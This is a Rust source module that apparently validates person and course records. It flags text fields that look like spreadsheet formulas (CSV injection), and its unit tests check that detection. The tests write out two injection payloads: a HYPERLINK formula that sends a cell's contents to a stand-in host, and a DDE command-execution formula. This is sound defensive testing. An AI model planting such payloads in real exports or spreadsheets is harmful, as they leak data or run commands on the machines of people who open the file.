//! A name or another text is one that a spreadsheet would compute (OWASP, „CSV injection“); it is nobody's name or town.

use super::alphabet::{names, visible};
use super::case::Case;
use super::texts::texts;
use crate::diag::{Code, Finding};
use crate::model::{Field, Place, looks_like_formula};

pub(super) fn check(case: &Case, findings: &mut Vec<Finding>) {
    let mut report = |field: Field, text: &str, place: &Place| {
        if looks_like_formula(text) {
            let finding = case.finding_at(Code::FormulaInText, field, place);
            findings.push(finding.found(visible(text)));
        }
    };
    for name in names(&case.record.person) {
        report(name.field, name.text, &case.record.place);
    }
    for text in texts(case.record) {
        report(text.field, &text.text, text.place);
    }
}

#[cfg(test)]
mod tests {
    use crate::check::sample::World;
    use crate::diag::Code;

    #[test]
    fn a_formula_is_only_a_formula() {
        let mut world = World::of(1);
        world.record(0).person.first_name = "=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"Иван\")".to_owned();
        world.record(0).courses[0].attempts[0].lecturer = "=cmd|'/C calc'!A0".to_owned();
        let codes = world.codes();
        assert_eq!(codes.iter().filter(|code| **code == Code::FormulaInText).count(), 2);
        assert!(!codes.contains(&Code::NameUnexpectedLetter) && !codes.contains(&Code::NameLatinDiffers));
    }

    #[test]
    fn a_dash_is_none() {
        let mut world = World::of(1);
        world.record(0).state_exams[0].topic = "–".to_owned();
        world.record(0).person.birth_place.municipality = "-".to_owned();
        assert!(world.codes().is_empty());
    }
}
